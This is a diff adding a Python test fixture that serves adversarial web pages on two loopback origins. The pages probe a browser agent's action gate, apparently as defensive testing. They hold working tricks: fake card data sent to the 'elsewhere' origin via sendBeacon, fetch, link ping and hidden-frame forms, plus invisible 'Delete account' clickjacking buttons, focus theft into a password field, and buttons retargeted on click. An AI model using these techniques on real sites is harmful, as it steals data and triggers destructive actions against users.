@@ -1,0 +1,375 @@
+"""Attack probes' two origins and their pages (``test_attacks_network``, ``test_attacks_dom``).
+
+Two loopback origins: ``home`` (``127.0.0.1``, the only one granted) and ``elsewhere``
+(``localhost``, another port: another origin and another site), each counting every request
+it receives. A probe that fails on today's code is a leak found: it is kept, marked
+``xfail(strict=True, reason="LEAK: ...")``, so the suite stays green while recording it.
+"""
+
+from __future__ import annotations
+
+import json
+import threading
+import time
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from typing import Any
+from urllib.parse import parse_qs, urlsplit
+
+from handrail.executor import Outcome, Session
+from handrail.recorder import Ledger
+from tests.conftest import AgentSetup, Stack
+
+NOT_STARTED = (Outcome.REFUSED, Outcome.FAILED)
+
+# The home pages hear commands run by ``Origins.run_js`` (as ``tests/executor/site.py``).
+CHANNEL = """<script>
+(function () {
+  var es = new EventSource("/__events?since=SINCE");
+  es.onmessage = function (e) {
+    var cmd = JSON.parse(e.data);
+    try { (0, eval)(cmd.code); } finally { fetch("/__ack?id=" + cmd.id, { method: "POST" }); }
+  };
+})();
+</script>"""
+_QUIET = ("/__events", "/__ack", "/favicon.ico")
+
+
+class Origins:
+    """Two origins on loopback; every request each one receives is kept, in order.
+
+    Pages are HTML templates in which ``HOME`` and ``ELSE`` stand for the two base URLs.
+    """
+
+    def __init__(self, home: dict[str, str], elsewhere: dict[str, str]) -> None:
+        self.pages = {"home": home, "elsewhere": elsewhere}
+        self.seen: list[tuple[str, str, str, str]] = []  # (origin, method, path, body)
+        self.urls = {"home": "", "elsewhere": ""}
+        self._cond = threading.Condition()
+        self._commands: list[str] = []
+        self._acks: set[int] = set()
+        self._stopping = False
+        self._servers: list[ThreadingHTTPServer] = []
+
+    @property
+    def home(self) -> str:
+        return self.urls["home"]
+
+    @property
+    def elsewhere(self) -> str:
+        return self.urls["elsewhere"]
+
+    def reached(self, origin: str, method: str = "", path: str = "") -> list[tuple[str, str, str, str]]:
+        with self._cond:
+            return [
+                r for r in self.seen if r[0] == origin and (not method or r[1] == method) and (not path or r[2] == path)
+            ]
+
+    def settled(self, origin: str, method: str = "", path: str = "", wait_s: float = 1.0) -> list[Any]:
+        """What reached ``origin`` once a request of that kind came, or ``wait_s`` passed."""
+        deadline = time.monotonic() + wait_s
+        while not self.reached(origin, method, path) and time.monotonic() < deadline:
+            time.sleep(0.02)
+        time.sleep(0.1)
+        return self.reached(origin, method, path)
+
+    def run_js(self, code: str, timeout: float = 10.0) -> None:
+        with self._cond:
+            self._commands.append(code)
+            cid = len(self._commands)
+            self._cond.notify_all()
+            deadline = time.monotonic() + timeout
+            while cid not in self._acks:
+                left = deadline - time.monotonic()
+                if left <= 0:
+                    raise TimeoutError(f"no page ran {code[:60]}")
+                self._cond.wait(left)
+
+    def _page(self, origin: str, path: str) -> str | None:
+        page = self.pages[origin].get(path)
+        if page is None:
+            return None
+        page = page.replace("HOME", self.home).replace("ELSE", self.elsewhere)
+        if origin == "home" and not path.endswith(".js"):
+            with self._cond:
+                page += CHANNEL.replace("SINCE", str(len(self._commands)))
+        return page
+
+    def start(self) -> Origins:
+        for origin, host in (("home", "127.0.0.1"), ("elsewhere", "localhost")):
+            server = ThreadingHTTPServer(("127.0.0.1", 0), _handler(self, origin))
+            server.daemon_threads = True
+            threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
+            self._servers.append(server)
+            self.urls[origin] = f"http://{host}:{server.server_address[1]}"
+        return self
+
+    def stop(self) -> None:
+        with self._cond:
+            self._stopping = True
+            self._cond.notify_all()
+        for server in self._servers:
+            server.shutdown()
+            server.server_close()
+
+
+def _handler(site: Origins, origin: str) -> type[BaseHTTPRequestHandler]:
+    class Handler(BaseHTTPRequestHandler):
+        protocol_version = "HTTP/1.0"
+
+        def log_message(self, format: str, *args: Any) -> None:
+            pass
+
+        def _send(self, code: int, body: str) -> None:
+            data = body.encode()
+            self.send_response(code)
+            js = urlsplit(self.path).path.endswith(".js")
+            self.send_header("Content-Type", "text/javascript" if js else "text/html; charset=utf-8")
+            self.send_header("Content-Length", str(len(data)))
+            self.send_header("Cache-Control", "no-store")
+            self.end_headers()
+            self.wfile.write(data)
+
+        def _note(self, method: str, body: str) -> str:
+            path = urlsplit(self.path).path
+            if path not in _QUIET:
+                with site._cond:
+                    site.seen.append((origin, method, path, body))
+            return path
+
+        def do_GET(self) -> None:
+            path = self._note("GET", urlsplit(self.path).query)
+            if path == "/__events":
+                self._events()
+                return
+            page = site._page(origin, path)
+            self._send(200, page) if page is not None else self._send(404, "not found")
+
+        def do_POST(self) -> None:
+            length = int(self.headers.get("Content-Length") or 0)
+            body = self.rfile.read(length).decode("utf-8", "replace") if length else ""
+            path = self._note("POST", body)
+            if path == "/__ack":
+                with site._cond:
+                    site._acks.add(int(parse_qs(urlsplit(self.path).query)["id"][0]))
+                    site._cond.notify_all()
+                self._send(204, "")
+                return
+            self._send(200, "<!doctype html><title>Done</title><h1>Done</h1>")
+
+        def do_HEAD(self) -> None:
+            self._note("HEAD", "")
+            self._send(200, "")
+
+        def _events(self) -> None:
+            self.send_response(200)
+            self.send_header("Content-Type", "text/event-stream")
+            self.end_headers()
+            query = parse_qs(urlsplit(self.path).query)
+            seen = int(query.get("since", ["0"])[0])
+            try:
+                self.wfile.write(b": hi\n\n")
+                self.wfile.flush()
+                while True:
+                    with site._cond:
+                        while len(site._commands) <= seen and not site._stopping:
+                            site._cond.wait(0.2)
+                        if site._stopping:
+                            return
+                        new, first, seen = site._commands[seen:], seen + 1, len(site._commands)
+                    for i, code in enumerate(new):
+                        self.wfile.write(f"data: {json.dumps({'id': first + i, 'code': code})}\n\n".encode())
+                    self.wfile.flush()
+            except OSError:
+                return
+
+    return Handler
+
+
+def _doc(title: str, body: str) -> str:
+    return f"<!doctype html><html><head><title>{title}</title></head><body><main>{body}</main></body></html>"
+
+
+# -- the pages --------------------------------------------------------------------------
+
+HOME: dict[str, str] = {
+    # 1. A granted page embeds a widget of an origin nobody granted.
+    "/frame": _doc("Shop", "<h1>Shop</h1><iframe title=Widget src='ELSE/widget' width=500 height=300></iframe>"),
+    # 6. Ways a click on an in-scope control sends a request to another origin, with no
+    # document load the gate would hold.
+    "/out": _doc(
+        "Out",
+        "<h1>Out</h1><p id=said>idle</p>"
+        "<button onclick=\"navigator.sendBeacon('ELSE/collect', 'card=4242');"
+        " document.getElementById('said').textContent = 'beaconed'\">Save by beacon</button>"
+        "<button onclick=\"fetch('ELSE/collect', {method: 'POST', mode: 'no-cors', body: 'card=4242'});"
+        " document.getElementById('said').textContent = 'fetched'\">Save by fetch</button>"
+        "<p><a href='/inside' ping='ELSE/ping'>Inside page</a></p>"
+        # a form posted into a hidden child frame: a child frame's document is not gated
+        "<iframe name=sink title=Sink style='width:1px;height:1px;border:0'></iframe>"
+        "<form id=hidden method=post action='ELSE/collect' target=sink>"
+        "<input type=hidden name=card value=4242></form>"
+        "<button type=button onclick=\"document.getElementById('hidden').submit();"
+        " document.getElementById('said').textContent = 'posted'\">Save by frame</button>"
+        "<form method=post action='ELSE/collect' target=sink><input type=hidden name=card value=4242>"
+        "<button>Send into the frame</button></form>",
+    ),
+    "/inside": _doc("Inside", "<h1>Inside</h1>"),
+    # 6d. A service worker, which could answer a navigation with no request the gate sees.
+    "/worker": _doc(
+        "Worker",
+        "<h1>Worker</h1><p id=said role=status>pending</p><script>"
+        "function said(t) { document.getElementById('said').textContent = t; }"
+        "if (!navigator.serviceWorker) said('no service workers'); else "
+        "navigator.serviceWorker.register('/sw.js').then(function () { said('registered'); },"
+        " function (e) { said('refused: ' + e.name); });</script>",
+    ),
+    "/sw.js": "self.addEventListener('fetch', function (e) {"
+    " e.respondWith(new Response('<title>Forged</title><h1>Forged</h1>', {headers: {'Content-Type': 'text/html'}})); });",
+    # 2. Clickjacking by CSS: an invisible "Delete account" laid over a visible "Save".
+    "/jack": _doc(
+        "Jack",
+        "<h1>Settings</h1><div style='position:relative;width:300px;height:60px'>"
+        "<form method=post action='/save'><button style='position:absolute;left:0;top:0;width:200px;"
+        "height:40px'>Save</button></form>"
+        "<form method=post action='/close'><button style='position:absolute;left:0;top:0;width:200px;"
+        "height:40px;opacity:0'>Delete account</button></form></div>",
+    ),
+    # 2b. The visible "Save" lets the pointer through to a transparent "Delete account".
+    "/jack-through": _doc(
+        "Jack",
+        "<h1>Settings</h1><div style='position:relative;width:300px;height:60px'>"
+        "<form method=post action='/close'><button style='position:absolute;left:0;top:0;width:200px;"
+        "height:40px;opacity:0.01'>Delete account</button></form>"
+        "<form method=post action='/save'><button style='position:absolute;left:0;top:0;width:200px;"
+        "height:40px;pointer-events:none'>Save</button></form></div>",
+    ),
+    # 3a. A confirmation whose "Yes" sits in a (non-modal) dialog "Close your account?", below
+    # the fold; MODE: in the light DOM, or in an open or a closed shadow root (below).
+    "/dialog-MODE": _doc(
+        "Account",
+        "<h1>Account</h1><div style='height:1500px'></div>"
+        "<div role=dialog aria-label='Close your account?'><p>All your data will be erased.</p>"
+        "<x-confirm></x-confirm></div>"
+        "<script>var YES = '<form method=post action=/close><input type=hidden name=close value=yes>"
+        "<button>Yes</button></form>';"
+        "customElements.define('x-confirm', class extends HTMLElement { connectedCallback() {"
+        " if ('MODE' === 'light') { this.innerHTML = YES; return; }"
+        " if (!this.shadowRoot) this.attachShadow({mode: 'MODE'}).innerHTML = YES; } });</script>",
+    ),
+    # 3b. A plans table inside a shadow root, below the fold; the rows get re-painted by index
+    # (run_js).
+    "/shadow-rows": _doc(
+        "Plans",
+        "<h1>Plans</h1><div style='height:1500px'></div><x-plans></x-plans><script>"
+        "customElements.define('x-plans', class extends HTMLElement { constructor() { super();"
+        " const root = this.attachShadow({mode: 'open'});"
+        " root.innerHTML = '<table><tbody>' + ['E', 'F', 'G'].map(function (p) {"
+        " return '<tr><td>Plan ' + p + '</td><td><form method=post action=/cancel>"
+        "<input type=hidden name=plan value=' + p + '><button>Cancel</button></form></td></tr>'; }).join('')"
+        " + '</tbody></table>'; window.plansRoot = root; } });"
+        "window.repaint = function () { var rows = window.plansRoot.querySelectorAll('tr');"
+        " var names = ['F', 'G', 'E']; rows.forEach(function (row, i) {"
+        " row.cells[0].firstChild.nodeValue = 'Plan ' + names[i];"
+        " row.querySelector('input').value = names[i]; }); };</script>",
+    ),
+    # 4. Focus theft: the page moves the focus to another field on the first key, or on focus.
+    "/steal": _doc(
+        "Profile",
+        "<h1>Profile</h1><form method=post action='/save' aria-label=Profile>"
+        "<label>Nickname <input id=nick name=nick></label></form>"
+        "<form method=post action='ELSE/collect' aria-label=Login>"
+        "<label>Password <input id=pw name=pw type=password></label></form>"
+        "<script>var nick = document.getElementById('nick'), pw = document.getElementById('pw');"
+        "var how = location.hash.slice(1);"
+        "nick.addEventListener('keydown', function () { if (how === 'keydown') pw.focus(); });"
+        "nick.addEventListener('focus', function () { if (how === 'focus') pw.focus(); });</script>",
+    ),
+    # 5. The button's target is switched by the page's own pointerdown handler, after the check.
+    "/shop/profile": _doc(
+        "Profile",
+        "<h1>Profile</h1>"
+        "<form id=save method=post action='/shop/save' aria-label=Profile>"
+        "<input type=hidden name=nick value=ada><button id=b>Save</button></form>"
+        "<form id=close method=post action='/admin/close-account'><input type=hidden name=close value=yes></form>"
+        "<script>var how = location.hash.slice(1), b = document.getElementById('b');"
+        "b.addEventListener('pointerdown', function () {"
+        " if (how === 'formaction') b.setAttribute('formaction', '/admin/close-account');"
+        " if (how === 'form') b.setAttribute('form', 'close');"
+        " if (how === 'formaction-out') b.setAttribute('formaction', 'ELSE/collect'); });</script>",
+    ),
+    # 6b. Implicit submission: Enter in a search field posts through the form's default
+    # button, whose formaction goes elsewhere than the form's action (HTML only, no script).
+    "/shop/search": _doc(
+        "Search",
+        "<h1>Search</h1><form method=get action='/shop/results' aria-label=Search>"
+        "<button formaction='/admin/close-account' formmethod=post style='display:none'>Go</button>"
+        "<label>Query <input name=q></label></form>",
+    ),
+    # 6c. A label forwards its activation to the control it is for (HTML only, no script):
+    # the cited "Save draft" is a span in a label for a "Delete account" button.
+    "/label": _doc(
+        "Drafts",
+        "<h1>Drafts</h1><label for=del><span role=button tabindex=0>Save draft</span></label>"
+        "<form method=post action='/close'><input type=hidden name=close value=yes>"
+        "<button id=del aria-label='Delete account' style='position:absolute;left:-9999px'>Delete account</button>"
+        "</form>",
+    ),
+}
+
+for _mode in ("light", "open", "closed"):
+    HOME[f"/dialog-{_mode}"] = HOME["/dialog-MODE"].replace("'MODE'", f"'{_mode}'")
+del HOME["/dialog-MODE"]
+
+ELSEWHERE: dict[str, str] = {
+    "/widget": _doc(
+        "Widget",
+        "<h2>Widget</h2><p id=said>idle</p>"
+        "<button onclick=\"fetch('/collect', {method: 'POST', body: 'card=4242'})"
+        ".then(function () { document.getElementById('said').textContent = 'paid'; })\">Pay in widget</button>"
+        "<form method=post action='/collect'><input type=hidden name=card value=4242>"
+        "<button>Send card</button></form>"
+        "<label>Card number <input id=card oninput=\"fetch('/collect', {method: 'POST', body: this.value})\">"
+        "</label>",
+    ),
+}
+
+
+def open_probe(
+    stack: Stack,
+    agent: AgentSetup,
+    origins: Origins,
+    path: str,
+    verbs: tuple[str, ...] = ("input", "submit", "navigate"),
+    **scope: Any,
+) -> Session:
+    with stack.operator_client() as ops:
+        ops.grant(agent.principal.name, agent.target, list(verbs), [origins.home], **scope)
+    session = agent.client.open_session(target=agent.target, start_url=origins.home + path)
+    session.observe()
+    return session
+
+
+def entries(stack: Stack, session: Session, kind: str) -> list[dict[str, Any]]:
+    with Ledger(stack.data_dir / "ledger.sqlite") as ledger:
+        return [dict(e.body) for e in ledger.entries(session_id=session.session_id, kind=kind)]
+
+
+def frame_ready(session: Session, role: str, name: str, wait_s: float = 5.0) -> str:
+    """The ref of (role, name) once the observation shows it (a child frame loads late)."""
+    deadline = time.monotonic() + wait_s
+    while True:
+        session.observe()
+        try:
+            return session.find(role, name)
+        except LookupError:
+            if time.monotonic() > deadline:
+                raise
+            time.sleep(0.1)
+
+
+def posts_elsewhere(origins: Origins, before: int) -> list[Any]:
+    return [r for r in origins.reached("elsewhere") if r[1] != "GET"][before:]
+
+
+def home_posts(origins: Origins, before: int) -> list[Any]:
+    return [p for p in origins.reached("home", "POST")[before:] if p[2] != "/__ack"]
